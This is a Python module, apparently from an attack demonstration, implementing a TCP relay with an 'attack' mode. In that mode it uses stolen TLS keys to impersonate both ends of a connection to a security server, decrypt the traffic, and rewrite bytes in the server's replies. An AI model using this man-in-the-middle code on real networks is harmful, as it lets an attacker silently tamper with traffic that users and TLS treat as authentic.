"""A stretch of wire in front of one security server: it carries bytes, until an attacker sits on it.

It refuses to know what the bytes mean. The demonstration puts it at the ministry's registered address; in the attack it
ends the TLS connection with the server's own stolen key and opens a new one with the other side's, so that TLS notices
nothing.
"""

import asyncio
import ssl
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from typing import Final, cast

CHUNK: Final = 65536

Change = Callable[[bytes], bytes]


@dataclass(frozen=True, slots=True)
class StolenKeys:
    """TLS contexts with the keys of both ends: ``server`` to pose as the callee, ``client`` to pose as the caller."""

    server: ssl.SSLContext
    client: ssl.SSLContext


@dataclass(slots=True)
class ReplaceOnce:
    """Replaces the first occurrence of some bytes in a stream, also where a read ends in their middle."""

    wanted: bytes
    replacement: bytes
    done: bool = False
    _held: bytes = b""

    def __call__(self, chunk: bytes) -> bytes:
        """Give the bytes to pass on; an empty chunk marks the end and releases what was held back."""
        data, self._held = self._held + chunk, b""
        if self.done or not chunk:
            return data
        if self.wanted in data:
            self.done = True
            return data.replace(self.wanted, self.replacement, 1)
        keep = _overlap(data, self.wanted)
        self._held = data[len(data) - keep :]
        return data[: len(data) - keep]


def _overlap(data: bytes, wanted: bytes) -> int:
    """Say how many bytes at the end of ``data`` could be the beginning of ``wanted``."""
    longest = min(len(data), len(wanted) - 1)
    return next((size for size in range(longest, 0, -1) if data.endswith(wanted[:size])), 0)


class Wire:
    """Listens at one address and carries each connection to another, unchanged or attacked."""

    def __init__(self, listen: tuple[str, int], target: tuple[str, int]) -> None:
        self._listen = listen
        self._target = target
        self._stolen: StolenKeys | None = None
        self._change: Change = bytes
        self._server: asyncio.Server | None = None
        self._open: set[asyncio.StreamWriter] = set()
        self._carrying: set[asyncio.Task[None]] = set()

    async def carry(self) -> None:
        """Carry every byte as it is."""
        await self._serve(None, bytes)

    async def attack(self, stolen: StolenKeys, change: Change) -> None:
        """Cut all connections; decrypt the next ones and pass each answer through ``change``."""
        await self._serve(stolen, change)

    async def close(self) -> None:
        """Stop listening and cut every connection."""
        if self._server is None:
            return
        self._server.close()
        for writer in tuple(self._open):
            writer.transport.abort()
        await self._server.wait_closed()
        self._server = None
        if self._carrying:
            await asyncio.wait(self._carrying)

    async def _serve(self, stolen: StolenKeys | None, change: Change) -> None:
        await self.close()
        self._stolen, self._change = stolen, change
        context = stolen.server if stolen else None
        self._server = await asyncio.start_server(self._connected, *self._listen, ssl=context)

    async def _connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with self._tracked(writer):
            try:
                context = self._stolen.client if self._stolen else None
                onward_reader, onward_writer = await asyncio.open_connection(*self._target, ssl=context)
            except OSError:  # nobody is there: the caller sees what it would see without the wire
                writer.transport.abort()
                return
            with self._tracked(onward_writer):
                async with asyncio.TaskGroup() as both:
                    both.create_task(_pump(reader, onward_writer, bytes))
                    both.create_task(_pump(onward_reader, writer, self._change))

    @contextmanager
    def _tracked(self, writer: asyncio.StreamWriter) -> Iterator[None]:
        """Let ``close`` find this connection, and wait for the task that carries it."""
        task = cast("asyncio.Task[None]", asyncio.current_task())
        self._open.add(writer)
        self._carrying.add(task)
        try:
            yield
        finally:
            self._open.discard(writer)
            self._carrying.discard(task)


async def _pump(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, change: Change) -> None:
    try:
        while chunk := await reader.read(CHUNK):
            writer.write(change(chunk))
            await writer.drain()
        writer.write(change(b""))
    except OSError:
        pass  # one side was cut: the other one is told by the close below
    finally:
        writer.close()
        with suppress(OSError):
            await writer.wait_closed()
